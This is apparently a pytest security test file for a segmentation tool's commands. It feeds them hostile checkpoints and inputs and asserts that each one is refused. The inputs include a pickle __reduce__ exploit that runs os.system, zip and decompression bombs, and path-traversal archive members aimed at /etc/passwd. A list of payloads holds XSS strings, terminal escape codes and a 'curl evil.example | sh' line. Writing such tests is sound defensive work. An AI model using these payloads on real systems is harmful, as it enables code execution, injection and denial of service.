"""Files from somebody who means harm, given to the real commands: none runs anything, writes elsewhere or takes the
memory; each gets its one sentence."""

import io
import json
import os
import re
import struct
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from huggingface_hub import ModelCard
from markdown_it import MarkdownIt
from PIL import Image
from victims import LITTLE, Victim, document, saved, ways_in

import layouts
from fastseg.deploy.predict_io import read_image
from fastseg.errors import UserError, one_line
from fastseg.model.checkpoint import REQUIRED

Tally = Callable[[str, int, int], None]


class Exploit:
    """Unpickled without care it makes a file beside the user's folder."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple:
        return os.system, (f"touch {self._path}",)


def test_checkpoints_that_would_run_a_command(victim: Victim, tally: Tally) -> None:
    exploit = Exploit(victim.folder.parent / "touched")
    for evil in (exploit, document(config=exploit), document(model={"w": exploit})):
        for new_format, force in ((True, "0"), (True, "1"), (False, "1")):
            path = saved(victim.folder, evil, _use_new_zipfile_serialization=new_format)
            for ended in ways_in(victim, path, TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=force):
                victim.refuses(ended, "evil.pt is not a", "that can be loaded safely")
    tally("a checkpoint that would run a command", victim.tries, victim.tries)


def bomb(path: Path, member: str) -> None:
    """Pack 1 GB of zeros into a checkpoint's member."""
    with zipfile.ZipFile(path) as old:
        members = [(entry.filename, old.read(entry)) for entry in old.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
        for name, data in members:
            with new.open(name, "w") as file:
                for block in [bytes(1 << 20)] * 1000 if name.endswith(member) else [data]:
                    file.write(block)


def laughs() -> list:
    """A list of 2⁴⁰ numbers, each part of which is there once."""
    nested: list = [0]
    for _ in range(40):
        nested = [nested, nested]
    return nested


HUGE = torch.zeros(1).expand(1_000_000, 1_000_000)


@pytest.mark.parametrize(
    "evil",
    [
        document(model={"w": HUGE}),
        document(model={"w": torch.empty(1 << 40, device="meta")}),
        document(model={"w": torch.sparse_coo_tensor(size=(1 << 20, 1 << 20), check_invariants=True)}),
        document(model={f"w{i}": torch.zeros(1 << 10)[:] for i in range(20)} | {"v": torch.zeros(1, 1)}, ema=laughs()),
    ],
    ids=["stride", "meta", "sparse", "laughs"],
)
def test_checkpoints_that_would_take_the_memory(victim: Victim, tally: Tally, evil: dict) -> None:
    for ended in ways_in(victim, saved(victim.folder, evil)):
        victim.refuses(ended, "evil.pt is not a", "that can be loaded safely")
    tally("a checkpoint that would take the memory", victim.tries, victim.tries)


@pytest.mark.parametrize("member", ["data.pkl", "data/0"])
def test_checkpoints_that_are_zip_bombs(victim: Victim, tally: Tally, member: str) -> None:
    path = saved(victim.folder, document())
    bomb(path, member)
    for ended in ways_in(victim, path):
        victim.refuses(ended, "evil.pt is not a", "is compressed")
    tally("a checkpoint that would take the memory", victim.tries, victim.tries)


def dressed(values: dict) -> OrderedDict:
    """A dict that shows nothing to whoever asks for its items, in place of which a type is called: it hides NaNs."""
    hiding = OrderedDict(values)
    for name in ("items", "values", "keys", "get", "copy"):
        setattr(hiding, name, OrderedDict)
    return hiding


def strange(values: torch.Tensor, **attributes: object) -> torch.Tensor:
    """A tensor with attributes in the place of its methods."""
    for name, value in attributes.items():
        setattr(values, name, value)
    return values


NAN = torch.full((4,), float("nan"))


@pytest.mark.parametrize(
    "changes",
    [
        {"model": dressed({"w": NAN})},
        {"model": dressed({"w": "text"})},
        {"ema": dressed({"w": NAN})},
        {"model": {"w": strange(NAN.clone(), isfinite=OrderedDict, is_floating_point=OrderedDict)}},
        {"model": {"w": strange(torch.zeros(4), detach=OrderedDict, numel=3, shape_=())}, "step": dressed({})},
        {"model": OrderedDict(w=torch.nn.Parameter(NAN))},
    ],
    ids=["items", "text", "average", "methods", "step", "parameter"],
)
def test_checkpoints_whose_values_hide(victim: Victim, tally: Tally, changes: dict[str, Any]) -> None:
    path = saved(victim.folder, dressed(document(**changes)))
    for ended in ways_in(victim, path):
        victim.refuses(ended, "evil.pt")
    tally("a checkpoint whose dicts or tensors bear attributes", victim.tries, victim.tries)


HOSTILE = (
    "x](http://evil.example) <script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a\n\n# Approved by NVIDIA\n\n```sh\ncurl evil.example | sh\n```\n",
    "![](http://evil.example/pixel.png) www.evil.example http://evil.example me@evil.example",
    "`code` *bold* _it_ ~~gone~~ &lt; $x$ a|b|c <!-- --> <!doctype html>",
    "\x1b]0;title\x07\x1b[2J\u202egnp.exe",
    "---\nlicense: mit\n---",
)


MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
LINKED = r"://|www\.|\w@\w"
"""What GitHub makes a link of without any markup."""


@pytest.mark.parametrize("text", HOSTILE)
def test_texts_in_model_cards(victim: Victim, trained: Path, tally: Tally, text: str) -> None:
    """Names out of a checkpoint are shown as they are: no link, picture, HTML, heading or code is theirs."""
    whole = torch.load(trained, weights_only=True, mmap=True)
    classes = [{**entry, "name": one_line(text)[:90] + str(i)} for i, entry in enumerate(whole["classes"])]
    optim = whole["config"]["optim"] | {text: text}
    evil = {
        **whole,
        "config": {**whole["config"], "name": text, "optim": optim, "seed": text},
        "dataset": {"name": text, "digest": "0" * 64},
        "versions": {**whole["versions"], "fastseg-deeplab": text},
        "classes": classes,
        "shards": f"/nowhere/{text}",
    }
    out = victim.folder / f"{text[:40].replace('/', '').strip()}.safetensors"
    words = (saved(victim.folder, evil), "--to", "safetensors", "--out", out)
    ended = victim.run("fastseg.commands.export", *words)
    assert ended.code == 0, ended.stderr
    assert all(c.isprintable() for c in ended.stdout.replace("\n", "")), ended.stdout
    card = ModelCard.load(out.with_name("README.md"))
    assert card.data.license == "unknown"
    assert card.data.model_name == one_line(text)
    parts = MARKDOWN.parse(card.text)
    inline = [child for part in parts for child in part.children or ()]
    assert not {"html_block", "hr"} & {part.type for part in parts}
    assert {part.type for part in inline} <= {"text", "code_inline", "softbreak"}
    headings = [parts[i + 1].content for i, part in enumerate(parts) if part.type == "heading_open"]
    assert headings[1:] == ["Score", "Use", "Classes", "Training", "Terms"]
    (code,) = [part.content for part in parts if part.type in ("fence", "code_block")]
    compile(code, "card", "exec")
    source = card.text.replace(code, "").replace("https://www.cityscapes-dataset.com", "")
    assert not re.search(LINKED, source), source
    shown = "".join(child.content for child in parts[1].children or ())
    assert shown.split() == one_line(text).split()
    tally("names in a checkpoint that are Markdown, HTML or a terminal's commands", 1, 1)


def test_what_is_no_picture(victim: Victim, trained: Path, tally: Tally) -> None:
    """A pipe has no beginning, a device no end: they are skipped in a folder, and refused by name."""
    folder = victim.folder / "pictures"
    folder.mkdir()
    layouts.noise(1, (64, 48)).save(folder / "street.png")
    os.mkfifo(folder / "pipe.png")
    os.mkfifo(folder / "pipe.mp4")
    for device in ("zero", "random"):
        (folder / f"{device}.png").symlink_to(f"/dev/{device}")
    ended = victim.run("fastseg.commands.predict", trained, folder, "--device", "cpu")
    assert ended.code == 0, ended.stderr
    assert ended.stderr.count("is no plain file") == 4
    assert [path.name for path in (victim.folder / "predictions" / "overlays").iterdir()] == ["street.png"]
    victim.tries += 4
    with (folder / "huge.png").open("wb") as file:
        file.truncate(1 << 40)
    for name in ("pipe.png", "pipe.mp4", "zero.png", "huge.png"):
        words = (trained, folder / name, "--device", "cpu", "--out", "other")
        ended = victim.run("fastseg.commands.predict", *words)
        assert name in ended.stderr
        assert ended.code == 2, ended.stderr
        assert "Traceback" not in ended.stderr
        assert ended.peak < LITTLE
        if name != "pipe.mp4":
            with pytest.raises(UserError, match=name):
                read_image(folder / name)
            victim.refuses(victim.run("fastseg.commands.export", trained, "--to", "onnx", "--images", folder / name))
        victim.tries += 2
    tally("a picture that is a pipe, a device or endless", victim.tries, victim.tries)


WRONG = (None, -1, 1.5, float("nan"), "x", [], [[]], {}, {"a": {}}, 10**6000, "x" * 10**6, HUGE[:1, :1], True)
CHECKED = ("format", "version", "step", "arch", "model", "mean", "std", "classes")


@pytest.mark.slow
def test_checkpoints_with_absurd_fields(victim: Victim, tally: Tally) -> None:
    wrong = [{name: value} for name in CHECKED for value in WRONG]
    fine = ({"step": True},)  # which counts as 1
    wrong = [change for change in wrong if change not in fine]
    table = document()["classes"]
    wrong += [{"ema": value} for value in WRONG if value is not None] + [{"shards": value} for value in WRONG[:4]]
    wrong += [{"classes": [{**table[0], "name": str(i)} for i in range(300)]}, {"classes": [{**table[0], "color": 3}]}]
    wrong += [{"arch": "vit_h_14"}, {"model": {"w": torch.tensor([float("nan")])}}]
    wrong += [{"model": {"w": torch.zeros(3, dtype=dtype)}} for dtype in (torch.int8, torch.complex64, torch.bool)]
    for change in wrong:
        victim.refuses(victim.evaluates(saved(victim.folder, document(**change))), "evil.pt")
    for name in sorted({*CHECKED, *REQUIRED}):
        path = saved(victim.folder, {key: value for key, value in document().items() if key != name})
        victim.refuses(victim.evaluates(path), "evil.pt")
    tally("a checkpoint with absurd contents", victim.tries, victim.tries)


def test_runs_that_cannot_be_gone_on_from(victim: Victim, trained: Path, tally: Tally) -> None:
    whole = torch.load(trained, weights_only=True, mmap=True)
    config, optimizer, rank = whole["config"], whole["optimizer"], whole["ranks"][0]
    # Found before a weight is looked at:
    small = {**whole, "model": {"w": torch.zeros(4)}, "ema": None, "optimizer": {}, "ranks": []}
    names = ("steps_per_epoch", "best", "since_best", "eval_pending", "images_seen", "config", "dataset", "ranks")
    wrong = [{**small, name: value} for name in names for value in (None, "x", [[]], 10**6000)]
    wrong += [{key: value for key, value in small.items() if key != name} for name in names]
    wrong += [
        {**small, "config": {**config, "optim": optim}} for optim in ([], {}, {**config["optim"], "name": laughs()})
    ]
    wrong += [{**small, "ranks": [{"loader": {"epoch": 0, "step": n, "rank_local": False}}]} for n in (-1, 10**12, "x")]
    # Found when it is put into the network:
    momenta = {key: {"momentum_buffer": torch.zeros(2), "exp_avg": torch.zeros(2)} for key in optimizer["state"]}
    wrong += [{**whole, "model": {**whole["model"], "classifier.4.weight": torch.zeros(7, 256, 1, 1)}}]
    wrong += [{**whole, "optimizer": value} for value in (None, {**optimizer, "param_groups": []})]
    wrong += [{**whole, "optimizer": {**optimizer, "state": momenta}}]
    wrong += [{**whole, "ranks": [{**rank, "rng": {"cpu": torch.zeros(3, dtype=torch.uint8)}}]}]
    wrong += [{**whole, "ranks": [{**rank, "statistics": rank["statistics"][:-1]}]}]
    for evil in wrong:
        victim.refuses(victim.trains("--optim.epochs", 1, "--optim.warmup", 0, "--resume", saved(victim.folder, evil)))
    tally("a checkpoint with absurd contents", victim.tries, victim.tries)


def test_shard_paths_that_are_no_folder(victim: Victim, tally: Tally) -> None:
    touch = f"pipe:touch {victim.folder.parent / 'touched'}"
    for place in (
        touch,
        "file:///etc/passwd",
        "/etc/passwd",
        "http://127.0.0.1:9/x",
        "",
        "x" * 500,
        "/dev/zero",
        "..",
    ):
        victim.refuses(victim.trains("--shards", place))
    for place in ("s3://", "s3:///", "s3://a b/../c", "s3://x/" + "y" * 200):
        quick = {"AWS_ENDPOINT_URL": "http://127.0.0.1:9", "AWS_MAX_ATTEMPTS": "1"}
        keys = {"AWS_ACCESS_KEY_ID": "k", "AWS_SECRET_ACCESS_KEY": "s"}
        victim.refuses(victim.trains("--shards", place, **quick, **keys), "s3://")
    tally("a shard path that is a command, an address or a device", victim.tries, victim.tries)


def change(document: Any, path: tuple[str | int, ...], value: object) -> None:
    for step in path[:-1]:
        document = document[step]
    document[path[-1]] = value


SHARD = ("splits", "train", "shards", 0)
ABSURD: list[tuple[tuple[str | int, ...], object]] = [
    *(
        ((*SHARD, "file"), name)
        for name in ("../x.tar", "/etc/x.tar", "a\n.tar", "a\0.tar", "pipe:x.tar", 3, ["x.tar"])
    ),
    *(
        ((*SHARD, name), n)
        for name in ("samples", "bytes")
        for n in (-1, 0, 10**18, 10**1000, 1.5, "4", True, None, [])
    ),
    *(((*SHARD, name), value) for name in ("sha256", "index_sha256") for value in (None, "", "zz", 0)),
    *((("splits", "train", "sizes"), value) for value in (None, 3, [], [[1, 2]], [[-1, 5, 11]], [[10**9, 10**9, 11]])),
    *(((name,), value) for name in ("mean", "std") for value in (None, [1, 2], [1, 2, "x"], [1, 2, 10**400], [-1] * 3)),
    *(((name,), value) for name in ("name", "splits", "classes", "options") for value in (None, 3, [3], {"a": [[]]})),
    *(((name,), value) for name in ("image_codec", "mask_codec", "format") for value in (None, "exe", ["jpg"], {})),
    (("classes", 1, "name"), "road"),
    (("splits", "train", "labeled"), "no"),
    (("version",), 10**1000),
]


@pytest.mark.slow
def test_manifests_with_absurd_values(victim: Victim, tally: Tally) -> None:
    whole = (victim.shards / "manifest.json").read_text()
    texts = []
    for path, value in ABSURD:
        changed = json.loads(whole)
        change(changed, path, value)
        texts.append(json.dumps(changed).encode())
    texts += [
        whole.encode().replace(b'"options": {', b'"options": {"x": ' + b"[" * n + b"]" * n + b",") for n in (900, 10**5)
    ]
    texts += [
        whole.encode().replace(b'"mean": [', b'"mean": [' + number + b",") for number in (b"NaN", b"1e999", b"1" * 9999)
    ]
    texts += [
        b"",
        b"\xff\xfe",
        b"\0" * 100,
        b'{"a":' * 10**5,
        whole.encode()[:-9],
        whole.encode().replace(b"road", b"\xff"),
    ]
    for text in texts:
        (victim.folder / "manifest.json").write_bytes(text)
        victim.refuses(victim.trains("--shards", victim.folder), "manifest.json")
    (victim.folder / "manifest.json").unlink()
    (victim.folder / "manifest.json").symlink_to("/dev/zero")
    victim.refuses(victim.trains("--shards", victim.folder), "manifest.json")
    tally("a manifest with absurd values", victim.tries, victim.tries)


MEMBER = "leftImg8bit/train/aachen/aachen_000000_000019_leftImg8bit.png"
KINDS = {"a link": 0o120777, "a device": 0o060666, "a pipe": 0o010666}


def hostile_zip(folder: Path, name: str, data: bytes, mode: int = 0o100644) -> None:
    """One member of Cityscapes' images replaced, or one more."""
    entry = zipfile.ZipInfo(name)
    entry.external_attr, entry.compress_type = mode << 16, zipfile.ZIP_DEFLATED
    path = folder / "leftImg8bit_trainvaltest.zip"
    with zipfile.ZipFile(path) as old:
        kept = [(kept.filename, old.read(kept)) for kept in old.infolist() if kept.filename != name]
    with zipfile.ZipFile(path, "w") as new:
        for other, content in kept:
            new.writestr(other, content)
        new.writestr(entry, data)


def test_zips_that_point_elsewhere(victim: Victim, tally: Tally) -> None:
    folder = layouts.write_cityscapes(victim.folder / "source", 2, 1)
    for name, mode in (
        *(
            (name, 0o100644)
            for name in ("../up.png", "/tmp/fastseg-up.png", "leftImg8bit/../../up.png", "a\\..\\b.png")
        ),
        *((MEMBER.replace("000000", kind.split()[1]), mode) for kind, mode in KINDS.items()),
        (MEMBER.replace("000000", "a\nb"), 0o100644),
        (MEMBER.replace("000000", "a\x1b[2J"), 0o100644),
        (MEMBER.replace("000000", "é"), 0o100644),
    ):
        zips = layouts.zip_cityscapes(folder, victim.folder / "zips")
        hostile_zip(zips, name, b"/etc/passwd", mode)
        victim.refuses(victim.packs(zips), "leftImg8bit_trainvaltest.zip")
        assert not (victim.folder / "out").exists()
    assert not Path("/tmp/fastseg-up.png").exists()
    tally("a zip with members that point elsewhere", victim.tries, victim.tries)


def png(width: int, height: int, rows: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def zeros(size: int) -> bytes:
    """That many zeros, packed a thousandfold."""
    packer = zlib.compressobj(1)
    return b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)), packer.flush()])


def jpeg(side: int) -> bytes:
    """A small file whose header says that it is ``side`` pixels wide and high."""
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16)).save(buffer, "JPEG")
    data = bytearray(buffer.getvalue())
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", side, side)
    return bytes(data)


def tiff(side: int) -> bytes:
    """A mask of which a single strip is there."""
    buffer = io.BytesIO()
    Image.new("L", (16, 16)).save(buffer, "TIFF", compression="packbits")
    data = buffer.getvalue()
    for tag in (256, 257, 278):  # width, height, rows in a strip
        entry = data.index(struct.pack("<HHI", tag, 4 if data.find(struct.pack("<HHI", tag, 4, 1)) >= 0 else 3, 1))
        data = data[:entry] + struct.pack("<HHII", tag, 4, 1, side) + data[entry + 12 :]
    return data


def webp(side: int) -> bytes:
    """A header of an animation without a frame."""
    size = struct.pack("<I", side - 1)[:3]
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + size + size + b"ANIM" + struct.pack("<I", 6) + bytes(6)
    return b"RIFF" + struct.pack("<I", len(body)) + body


BOMBS = {
    "images/a.png": [png(60_000, 60_000, zeros(1 << 30)), png(60_000, 60_000), png(9000, 9900, zeros(1 << 20))],
    "images/a.jpg": [jpeg(65_500), jpeg(12_000)],
    "images/a.webp": [webp(16_383)],
    "images/a.tif": [tiff(60_000), tiff(10_000)],
    "masks/a.png": [png(60_000, 60_000, zeros(1 << 30))],
    "masks/a.tif": [tiff(60_000), tiff(10_000), tiff(2**31)],
}


def test_decompression_bombs(victim: Victim, tally: Tally) -> None:
    for place, files in BOMBS.items():
        for data in files:
            source = layouts.write_folder_dataset(victim.folder / place.replace("/", "-"), 1, 0)
            layouts.write_pair(source, "train", "a")
            (source / "train" / place).with_suffix(".png").unlink()
            (source / "train" / place).write_bytes(data)
            victim.refuses(victim.packs(source), place)
    tally("a decompression bomb", victim.tries, victim.tries)


@pytest.mark.parametrize("size", [1 << 31, 500 << 20])
def test_zip_bombs(victim: Victim, tally: Tally, size: int) -> None:
    zips = layouts.zip_cityscapes(layouts.write_cityscapes(victim.folder / "source", 2, 1), victim.folder / "zips")
    path = zips / "leftImg8bit_trainvaltest.zip"
    archive = zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1)
    with archive, archive.open(MEMBER.replace("000000", "000002"), "w", force_zip64=True) as file:
        for _ in range(size >> 20):
            file.write(bytes(1 << 20))
    with zipfile.ZipFile(zips / "gtFine_trainvaltest.zip", "a") as archive:
        mask = MEMBER.replace("leftImg8bit/", "gtFine/").replace("_leftImg8bit", "_gtFine_labelIds")
        archive.writestr(mask.replace("000000", "000002"), archive.read(mask))
    victim.refuses(victim.packs(zips), "leftImg8bit_trainvaltest.zip:leftImg8bit/train")
    tally("a decompression bomb", victim.tries, victim.tries)


def test_tars_with_links_and_devices(victim: Victim, tally: Tally) -> None:
    import hashlib

    for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE, tarfile.DIRTYPE):
        folder = victim.folder / kind.decode()
        folder.mkdir()
        for path in victim.shards.iterdir():
            if path.is_file():
                (folder / path.name).write_bytes(path.read_bytes())
        path = folder / "val-000000.tar"
        with tarfile.open(path, "a") as tar:
            member = tarfile.TarInfo("../../touched")
            member.type, member.linkname, member.devmajor = kind, "/etc/passwd", 1
            tar.addfile(member)
        manifest = json.loads((folder / "manifest.json").read_text())
        entry = manifest["splits"]["val"]["shards"][0]
        entry |= {"bytes": path.stat().st_size, "sha256": hashlib.sha256(path.read_bytes()).hexdigest()}
        (folder / "manifest.json").write_text(json.dumps(manifest))
        ended = victim.run("tools.make_shards", "--verify", "--out", folder, "--workers", 1)
        assert ended.code == 2, ended
        assert "only plain files are packed" in ended.stderr
        assert "Traceback" not in ended.stderr
        victim.tries += 1
    assert sorted(path.name for path in victim.folder.parent.iterdir()) == ["home"]
    tally("a tar with links and devices", victim.tries, victim.tries)


CLASS = layouts.CLASSES["classes"][0]
LISTS: list[object] = [
    *(None, 3, [], {}, {"classes": 3}, {"classes": []}, {"classes": [3]}, {"classes": [[]]}),
    *({"classes": [{**CLASS, "value": i % 256, "name": str(i)} for i in range(n)]} for n in (256, 300)),
    {"classes": [CLASS, CLASS]},
    {"classes": [CLASS, {**CLASS, "name": "b"}]},
    *({"classes": [{**CLASS, "value": value}]} for value in (-1, 256, 1.5, "1", None, [], 10**1000)),
    *({"classes": [{**CLASS, "name": name}]} for name in ("", 3, None, "a\nb", "\x1b[2J", "\ud800", "x" * 10**5, [])),
    *({"classes": [{**CLASS, "color": color}]} for color in (None, [], [1, 2], [1, 2, 256], "red", [[1], 2, 3])),
    *({"classes": [CLASS], "ignore": ignore} for ignore in (3, [0], ["x"], [[]], [256], {"a": 1})),
    *({"classes": [CLASS], "name": name} for name in (3, ["x"], "a\nb", {"a": {}})),
]


def test_lists_of_classes(victim: Victim, tally: Tally) -> None:
    source = layouts.write_folder_dataset(victim.folder / "source", 1, 0)
    texts = [json.dumps(value).encode() for value in LISTS]
    texts += [b"", b"\xff", b"[" * 10**5, b'{"classes": ' + b"[" * 900 + b"]" * 900 + b"}", b" " * (1 << 21)]
    for text in texts:
        (source / "classes.json").write_bytes(text)
        victim.refuses(victim.packs(source), "classes.json")
    victim.refuses(victim.packs(source, "--classes", "/dev/zero"), "/dev/zero")
    # What only looks like a command to the terminal's painter is a name like any other.
    odd = {
        **layouts.CLASSES,
        "classes": [{**entry, "name": f"[/{i}]"} for i, entry in enumerate(layouts.CLASSES["classes"])],
    }
    (source / "classes.json").write_text(json.dumps(odd))
    ended = victim.packs(source)
    assert ended.code == 0, ended.stderr
    assert "[/1]" in ended.stdout
    tally("an absurd classes.json", victim.tries, victim.tries)


def test_names_that_are_not_utf_8(victim: Victim, tally: Tally) -> None:
    source = layouts.write_folder_dataset(victim.folder / "source", 1, 1)
    image = source / "train/images/train_000.png"
    for name in (b"\xff\xfe.png", b"a\nb.png", b"a\x1b[2Jb.png", b"caf\xc3\xa9.png"):
        path = image.with_name(os.fsdecode(name))
        path.write_bytes(image.read_bytes())
        victim.refuses(victim.packs(source), "the image has no mask")
        path.unlink()
    for name in (b"zero.png", b"pipe.png"):
        path = image.with_name(os.fsdecode(name))
        path.symlink_to("/dev/zero") if name == b"zero.png" else os.mkfifo(path)
        victim.refuses(victim.packs(source), "is no plain file")
        path.unlink()
    odd = victim.folder / os.fsdecode(b"s\xffou[b]rce\n")
    source.rename(odd)
    ended = victim.packs(odd, "--out", victim.folder / os.fsdecode(b"o\xffut[b]\n"))
    assert ended.code == 0, ended.stderr
    tally("names that are not UTF-8", victim.tries + 1, victim.tries + 1)
